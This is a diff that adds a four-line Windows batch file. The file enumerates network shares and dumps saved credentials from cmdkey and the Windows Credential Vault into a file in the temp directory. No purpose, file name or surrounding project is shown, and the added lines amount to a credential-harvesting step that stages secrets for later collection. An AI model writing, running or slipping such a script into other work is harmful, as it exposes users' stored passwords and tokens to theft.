@@ -1,0 +1,4 @@
+@echo off
+net use
+cmdkey /list > "%TEMP%\c.txt"
+vaultcmd /listcreds:"Windows Credentials" /all >> "%TEMP%\c.txt"
